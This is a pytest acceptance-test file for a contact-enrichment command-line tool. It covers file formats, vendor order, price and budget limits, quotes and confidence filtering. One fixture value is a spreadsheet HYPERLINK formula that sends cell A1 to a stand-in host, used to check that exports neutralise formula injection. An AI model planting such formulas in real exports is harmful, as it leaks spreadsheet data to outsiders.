"""Formats in and out, and every option of the command line that changes what is asked, spent or written."""

import csv
import json
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from tests.acceptance.names import VERIFIERS

pytestmark = pytest.mark.usefixtures("waterfall")

FAST = ("--exclude", f"icypeas,dropcontact,{VERIFIERS}")  # who answers without tickets
NOBODY = ("--exclude", f"hunter,apollo,icypeas,dropcontact,{VERIFIERS}")
# in -> out: every format that can be read, every one that can be written
FORMATS = {"csv": "jsonl", "xlsx": "csv", "json": "xlsx", "jsonl": "parquet"}
_NOTE = '=HYPERLINK("http://sandbox.invalid/?x="&A1,"click me")'

Headwater = Any
Sample = Any
Row = Mapping[str, str]


@pytest.fixture(scope="module")
def people(crowd: Sample) -> list[dict[str, str]]:
    """A dozen people, one with a note that a spreadsheet would run and one with accents."""
    found = [dict(row) for row in crowd.people(0, 12)]
    found[0] |= {"Notes": _NOTE, "Phone": "+447700900123"}
    found[1] |= {"Notes": "naïve – “quoted”, with a comma\nand a second line"}
    return found


def _source(headwater: Headwater, name: str, rows: list[dict[str, str]]) -> Path:
    path: Path = headwater.folder / name
    if path.suffix == ".csv":
        return Path(headwater.write(name, rows))
    if path.suffix == ".json":
        path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    elif path.suffix == ".jsonl":
        path.write_text("\n".join(json.dumps(row) for row in rows) + "\n", encoding="utf-8")
    else:
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        for number, cells in enumerate([list(rows[0]), *(list(row.values()) for row in rows)], 1):
            for column, text in enumerate(cells, 1):
                cell = sheet.cell(number, column, text or None)
                cell.data_type = "s" if text else "n"  # text, even where it looks like a formula
        book.save(path)
    return path


@pytest.fixture(scope="module")
def formats(headwater: Headwater, people: list[dict[str, str]]) -> dict[str, dict[str, Any]]:
    """The same people in four formats, one run after the other; only the first one pays. Summaries by format."""
    wanted = ("--want", "email,phone,title", "--exclude", f"apollo,icypeas,dropcontact,{VERIFIERS}")
    return {
        before: headwater.enrich(_source(headwater, f"in.{before}", people), f"out.{after}", *wanted)
        for before, after in FORMATS.items()
    }


def _written(headwater: Headwater, suffix: str) -> list[dict[str, Any]]:
    path = headwater.folder / f"out.{suffix}"
    if suffix == "csv":
        return list(headwater.read("out.csv"))
    if suffix == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if suffix == "parquet":
        return pl.read_parquet(path).to_dicts()
    header, *rows = openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True)
    return [dict(zip(map(str, header), row, strict=True)) for row in rows]


@pytest.mark.parametrize("suffix", FORMATS)
def test_every_input_format_is_read_as_the_same_people(formats: dict[str, dict[str, Any]], suffix: str) -> None:
    summary, first = formats[suffix], formats["csv"]
    assert summary["rows"] == {"in": 12, "out": 12, "rejected": 0, "duplicates": 0}
    assert summary["found"] == first["found"]
    assert first["found"]["email"] > 0
    assert bool(summary["vendors"]) == (suffix == "csv")  # they were recognised: nobody was asked again


@pytest.mark.parametrize("suffix", FORMATS.values())
def test_every_output_format_holds_the_same_values(
    headwater: Headwater, formats: dict[str, dict[str, Any]], people: list[dict[str, str]], suffix: str
) -> None:
    rows = _written(headwater, suffix)
    assert [row["Last Name"] for row in rows] == [row["Last Name"] for row in people]
    for name in ("hw_email", "hw_phone", "hw_title", "hw_contact_id"):
        expected = [str(row[name] or "") for row in _written(headwater, "jsonl")]
        assert [str(row[name] or "") for row in rows] == expected
        assert any(expected)


def test_original_cells_are_verbatim_where_the_format_can_not_run_them(
    headwater: Headwater, formats: dict[str, dict[str, Any]], people: list[dict[str, str]]
) -> None:
    for row, original in zip(_written(headwater, "jsonl"), people, strict=True):
        assert {name: row[name] or "" for name in original} == original


@pytest.mark.parametrize(("suffix", "note"), [("csv", f"'{_NOTE}"), ("xlsx", _NOTE)])
def test_formulas_are_harmless_and_phone_numbers_keep_their_plus(
    headwater: Headwater, formats: dict[str, dict[str, Any]], suffix: str, note: str
) -> None:
    row = _written(headwater, suffix)[0]
    assert row["Notes"] == note
    assert row["Phone"] == row["hw_phone"] == "+447700900123"
    if suffix == "xlsx":
        sheet = openpyxl.load_workbook(headwater.folder / "out.xlsx").worksheets[0]
        assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n"}


def test_format_wins_over_the_suffix_and_columns_are_chosen(
    headwater: Headwater, formats: dict[str, dict[str, Any]]
) -> None:
    columns = ("--columns", "hw_email, Last Name,hw_contact_id")
    headwater.enrich(headwater.folder / "in.csv", "odd.txt", "--format", "json", *columns, *NOBODY)
    rows = json.loads((headwater.folder / "odd.txt").read_text(encoding="utf-8"))
    assert [list(row) for row in rows] == [["hw_email", "Last Name", "hw_contact_id"]] * 12
    assert [row["hw_email"] for row in rows] == [row["hw_email"] for row in _written(headwater, "jsonl")]


def test_an_enriched_file_can_be_enriched_again(headwater: Headwater, formats: dict[str, dict[str, Any]]) -> None:
    """Its columns of ours stay one of each, in their place, with the values of now."""
    before = headwater.read("out.csv")
    stale = [row | {"hw_email": "stale@nowhere.invalid", "hw_email_source": "yesterday"} for row in before]
    ours = ("--map", "hw_email=", "--map", "hw_phone=", "--map", "hw_title=")
    headwater.enrich(headwater.write("once.csv", stale), "twice.csv", "--want", "email,phone,title", *ours, *NOBODY)
    with (headwater.folder / "twice.csv").open(newline="", encoding="utf-8") as file:
        header = next(csv.reader(file))
    assert header == list(before[0])
    assert [row["hw_email"] for row in headwater.read("twice.csv")] == [row["hw_email"] for row in before]


def test_map_gives_a_column_its_meaning_or_none(headwater: Headwater, crowd: Sample) -> None:
    rows = [
        {"Alpha": f"{row['First Name']} {row['Last Name']}", "Beta": row["Company"], "Gamma": "ada@engine-hw.com"}
        for row in crowd.people(12, 14)
    ]
    mapping = ("--map", "Alpha=full_name", "--map", "Beta=company", "--map", "Gamma=")
    headwater.enrich(headwater.write("odd headers.csv", rows), "mapped.csv", *mapping, *NOBODY)
    found = headwater.read("mapped.csv")
    assert [row["hw_email"] for row in found] == ["", ""]
    shown = headwater.json("contacts", "show", found[0]["hw_contact_id"])
    assert shown["name"] == rows[0]["Alpha"]
    assert [(value["field"], value["value"]) for value in shown["values"]] == [("company", rows[0]["Beta"])]


def test_want_and_exclude_decide_what_is_asked_and_written(headwater: Headwater, crowd: Sample) -> None:
    source = headwater.write("want.csv", crowd.people(14, 24))
    before = headwater.meter()
    excluded = ("--exclude", f"hunter,icypeas,dropcontact,pattern,{VERIFIERS}")
    summary = headwater.enrich(source, "want.csv.jsonl", "--want", "linkedin,email", *excluded)
    after = headwater.meter()
    assert set(summary["vendors"]) == {"apollo"}
    assert [after[name]["calls"] - before[name]["calls"] for name in ("hunter", "icypeas", "dropcontact")] == [0, 0, 0]
    assert set(summary["found"]) == {"linkedin", "email"}
    lines = (headwater.folder / "want.csv.jsonl").read_text(encoding="utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    assert {"hw_linkedin", "hw_email"} <= set(rows[0])
    assert not {"hw_company", "hw_phone", "hw_title"} & set(rows[0])
    assert not any("pattern" in (row["hw_email_source"] or "") for row in rows)


@pytest.fixture(scope="module")
def orders(headwater: Headwater, crowd: Sample) -> dict[str, tuple[dict[str, Any], list[str], list[Decimal]]]:
    """By order: the summary, the vendors in the order they were asked, what every contact cost."""
    found = {}
    for order, options, people in (
        ("hunter,apollo", (), crowd.people(24, 44)),
        ("apollo,hunter", ("--max-price", "0.02"), crowd.people(44, 64)),
    ):
        before = len(headwater.requests())
        arguments = ("--order", order, "--want", "email,title", *options, *FAST)
        summary = headwater.enrich(headwater.write(f"{order}.csv", people), f"{order}-out.csv", *arguments)
        asked = [request["vendor"] for request in headwater.requests()[before:]]
        found[order] = (summary, asked, [Decimal(row["hw_cost_usd"]) for row in headwater.read(f"{order}-out.csv")])
    return found


@pytest.mark.parametrize("order", ["hunter,apollo", "apollo,hunter"])
def test_order_says_who_is_asked_first(orders: dict[str, Any], order: str) -> None:
    summary, asked, _ = orders[order]
    first, second = order.split(",")
    assert asked[0] == first
    # Everybody is asked of the first one, and of the second only those whom the first did not answer.
    assert summary["vendors"][first]["records"] >= 18
    assert 0 < summary["vendors"][second]["records"] < 20


def test_max_price_holds_for_every_contact(orders: dict[str, Any]) -> None:
    free, capped = orders["hunter,apollo"][2], orders["apollo,hunter"][2]
    assert max(free) > Decimal("0.02")  # so the limit had something to hold back
    assert Decimal(0) < max(capped) <= Decimal("0.02")
    assert sum(capped) == Decimal(orders["apollo,hunter"][0]["spent_usd"])


@pytest.fixture(scope="module")
def quotes(headwater: Headwater, crowd: Sample) -> dict[str, Any]:
    """Quotes for one file, plain and with limits."""
    junk = dict.fromkeys(crowd.rows[0], "") | {"Notes": "see other sheet"}
    source = headwater.write("quote.csv", [*crowd.people(64, 89), junk])
    options = {"plain": (), "wider": ("--want", "email,phone"), "budget": ("--budget", "0.05", "--exclude", "apollo"),
               "capped": ("--max-price", "0.01")}  # fmt: skip
    with ThreadPoolExecutor(2) as pool:
        found = pool.map(lambda each: headwater.json("quote", source, "--sandbox", *each), options.values())
        return dict(zip(options, found, strict=True))


def test_quote_as_json(quotes: dict[str, Any]) -> None:
    plain = quotes["plain"]
    assert (plain["rows"], plain["rejected"], plain["people"]) == (26, 1, 25)
    assert Decimal(0) < Decimal(plain["expected_usd"]) < Decimal(plain["at_most_usd"])
    assert 0 < plain["expected_finds"]["email"] <= 25
    assert plain["columns"]["Work Email"] == "email"
    assert set(plain["expected_by_vendor_usd"]) <= {"hunter", "apollo", "icypeas", "dropcontact", *VERIFIERS.split(",")}


def test_quote_follows_the_options(quotes: dict[str, Any]) -> None:
    most = {name: Decimal(quote["at_most_usd"]) for name, quote in quotes.items()}
    assert most["wider"] > most["plain"]
    assert most["capped"] == 25 * Decimal("0.01")
    assert most["budget"] == Decimal("0.05")
    assert "apollo" in quotes["plain"]["expected_by_vendor_usd"]
    assert "apollo" not in quotes["budget"]["expected_by_vendor_usd"]


def test_quote_is_a_table_for_people_and_asks_nobody(quotes: dict[str, Any], headwater: Headwater) -> None:
    before, files = len(headwater.requests()), set(headwater.folder.iterdir())
    done = headwater.run("quote", headwater.folder / "quote.csv", "--sandbox")
    assert "expected usd" in done.stdout
    assert "at most usd" in done.stdout
    assert "Work Email: email" in done.stdout
    assert len(headwater.requests()) == before
    assert set(headwater.folder.iterdir()) == files


def test_budget_holds_for_the_whole_job(quotes: dict[str, Any], headwater: Headwater) -> None:
    before = _spent(headwater)
    summary = headwater.enrich(headwater.folder / "quote.csv", "budget.csv", "--budget", "0.05", *FAST)
    assert summary["state"] == "done"
    assert Decimal(0) < _spent(headwater) - before == Decimal(summary["spent_usd"]) <= Decimal("0.05")
    assert len(headwater.read("budget.csv")) == 25
    assert summary["out_of_money"] > 0
    told = headwater.run("jobs", "show", summary["job"]).stderr
    assert f"{summary['out_of_money']} people were not asked further" in told


def _spent(headwater: Headwater) -> Decimal:
    """Dollars at published prices, as the vendors counted."""
    meter, prices = headwater.meter(), {"hunter": Decimal("0.0149"), "apollo": Decimal("0.02")}
    return sum((Decimal(meter[name]["credits"]) * price for name, price in prices.items()), Decimal(0))


def test_min_confidence_moves_doubtful_addresses_to_their_own_column(
    headwater: Headwater, formats: dict[str, dict[str, Any]]
) -> None:
    headwater.enrich(headwater.folder / "in.csv", "strict.csv", "--min-confidence", "0.999", *NOBODY)
    strict, usual = headwater.read("strict.csv"), headwater.read("out.csv")
    assert all(float(row["hw_email_confidence"]) >= 0.999 for row in strict if row["hw_email"])
    moved = [
        (hard, easy) for hard, easy in zip(strict, usual, strict=True) if easy["hw_email"] and not hard["hw_email"]
    ]
    assert moved
    assert all(hard["hw_email_unsure"] == easy["hw_email"] for hard, easy in moved)
